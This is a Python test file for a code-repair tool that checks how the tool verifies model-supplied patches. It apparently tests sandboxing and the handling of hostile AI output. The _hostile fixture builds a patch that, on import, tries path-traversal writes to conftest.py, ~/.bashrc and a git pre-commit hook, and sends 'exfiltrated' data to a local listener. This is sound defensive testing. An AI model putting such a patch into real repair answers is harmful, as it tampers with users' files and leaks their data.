"""Hostile answers really run in verification: under bubblewrap nothing outside the copy changes; without it,
what they changed is detected, the repair refused and the workspace restored."""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
from pathlib import Path

import pytest

from phoenix_sidecar.commands.doctor import OK, WARN, check_sandbox
from phoenix_sidecar.config.schema import Settings
from phoenix_sidecar.paths import StatePaths
from phoenix_sidecar.repair import isolation, sandbox
from kits.repairkit import build_harness, fingerprint, make_repo

MODEL = "LAYERS = 2\n\n\ndef width():\n    return 64 * LAYERS\n"
CONFTEST = "# the user's own conftest: must never change\n"


def _bwrap() -> None:
    box = sandbox.probe()
    if not box.works:
        pytest.skip(box.line())


def _hostile(targets: list[str], port: int) -> str:
    """A patch of model.py that, when imported, tries every write (and a connection) and reports each."""
    attempts = "\n".join(f"    _try({t})" for t in targets)
    return json.dumps({"patches": [{"file_path": "model.py", "mode": "search_replace", "search": "LAYERS = 2\n",
                                    "replace": f'''LAYERS = 2
import os, socket


def _try(path):
    try:
        with open(path, "w") as fh:
            fh.write("pwned\\n")
        print("WROTE", path)
    except OSError as exc:
        print("BLOCKED", path, exc.strerror)


if True:
{attempts}
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrated")
        print("CONNECTED")
    except OSError as exc:
        print("NO NETWORK", exc.strerror)
'''}]})


@pytest.fixture
def listener():  # type: ignore[no-untyped-def]
    """A TCP server on 127.0.0.1 that records whatever reaches it."""
    server = socket.create_server(("127.0.0.1", 0))
    got: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                got.append(conn.recv(100))

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], got
    server.close()


def _workspace(tmp_path: Path) -> tuple[Path, Path]:
    ws = make_repo(tmp_path / "ws", {"model.py": MODEL, "conftest.py": CONFTEST, "train.py": "import model\n"})
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# rc\n")
    return ws, home


def test_a_hostile_patch_changes_nothing_outside_its_sandbox(tmp_path: Path, listener) -> None:  # type: ignore[no-untyped-def]
    _bwrap()
    port, got = listener
    ws, home = _workspace(tmp_path)
    stamp = os.urandom(4).hex()
    outside_tmp = Path(f"/tmp/phoenix-test-{stamp}")
    targets = ['"../../../conftest.py"', '"../../conftest.py"', '"../conftest.py"', repr(str(ws / "conftest.py")),
               'os.path.expanduser("~/x")', repr(str(home / "x")), repr(str(outside_tmp)),
               repr(str(ws / ".git" / "hooks" / "pre-commit"))]
    environ = {**os.environ, "HOME": str(home)}
    # The capability guard would refuse this answer: let it through, so the sandbox alone stands.
    h = build_harness(ws, environ=environ, test_cmd=[sys.executable, "-c", "import model"], dry_run=True,
                      allow_capabilities=True)
    before, home_before = fingerprint(ws), sorted(os.listdir(home))
    copies_before = set(os.listdir(isolation.copies_dir(StatePaths(ws)).parent))

    report = h.engine.apply_answer(_hostile(targets, port))

    assert report.outcome == "dry_run", report  # the code ran to the end, and it was verified
    log = (ws / ".phoenix_cli" / "repairs" / report.repair_id / "verify.log").read_text()
    assert "NO NETWORK" in log and got == []
    assert (ws / "conftest.py").read_text() == CONFTEST
    after = fingerprint(ws)
    assert {k: v for k, v in after.items() if k != "refs"} == {k: v for k, v in before.items() if k != "refs"}
    assert sorted(os.listdir(home)) == home_before
    assert not outside_tmp.exists()
    # Whatever it wrote inside its private /tmp and scratch went with the copy.
    assert not any(isolation.copies_dir(StatePaths(ws)).iterdir())
    assert set(os.listdir(isolation.copies_dir(StatePaths(ws)).parent)) <= copies_before | {
        isolation.copies_dir(StatePaths(ws)).name}


def test_without_a_sandbox_writes_are_detected_refused_and_undone(tmp_path: Path, listener) -> None:  # type: ignore[no-untyped-def]
    port, _got = listener
    ws, home = _workspace(tmp_path)
    targets = [repr(str(ws / "conftest.py")), repr(str(ws / "planted.py")), 'os.path.expanduser("~/x")',
               'os.path.expanduser("~/.bashrc")']
    environ = {**os.environ, "HOME": str(home)}
    h = build_harness(ws, environ=environ, test_cmd=[sys.executable, "-c", "import model"], sandbox="detect",
                      allow_capabilities=True)
    before = fingerprint(ws)

    report = h.engine.apply_answer(_hostile(targets, port))

    assert report.outcome == "rejected" and report.reason_code == "wrote_outside", report
    assert "conftest.py" in report.reason and "planted.py" in report.reason and "~/x" in report.reason
    assert (ws / "conftest.py").read_text() == CONFTEST and not (ws / "planted.py").exists()
    assert (ws / "model.py").read_text() == MODEL
    assert fingerprint(ws)["files"] == before["files"]
    assert sorted(os.listdir(home)) == [".bashrc"]
    outcome = json.loads((ws / ".phoenix_cli" / "repairs" / report.repair_id / "outcome.json").read_text())
    assert outcome["reason_code"] == "wrote_outside"


def test_a_hung_sandboxed_test_command_leaves_no_process(ws: Path) -> None:
    _bwrap()
    marker = f"{os.getpid()}{os.urandom(2).hex()}"
    script = ("import signal, subprocess, time\n"
              f"subprocess.Popen(['sh', '-c', 'trap \"\" TERM; exec sleep 7{int(marker, 16) % 10**6}'])\n"
              "signal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(300)\n")
    h = build_harness(ws, test_cmd=[sys.executable, "-c", script], test_timeout_seconds=2)
    report = h.engine.apply_answer(json.dumps({"patches": [{"file_path": "train.py", "mode": "search_replace",
                                                            "search": 'print("Hello!")', "replace": 'print("Bye!")'}]}))
    assert report.outcome == "verify_failed" and "timed out" in report.reason, report
    needle = f"sleep 7{int(marker, 16) % 10**6}".encode()
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if needle in Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" "):
                left.append(pid)
        except OSError:
            continue
    assert left == []


def test_doctor_says_whether_the_sandbox_works(tmp_path: Path) -> None:
    box = sandbox.probe()
    result = check_sandbox(Settings(workspace=str(tmp_path)))
    assert result.status == (OK if box.works else WARN) and result.detail == box.line().removeprefix("sandbox: ")
    off = check_sandbox(Settings(workspace=str(tmp_path), sandbox="detect"))
    assert off.status == WARN and "writes are detected instead" in off.detail
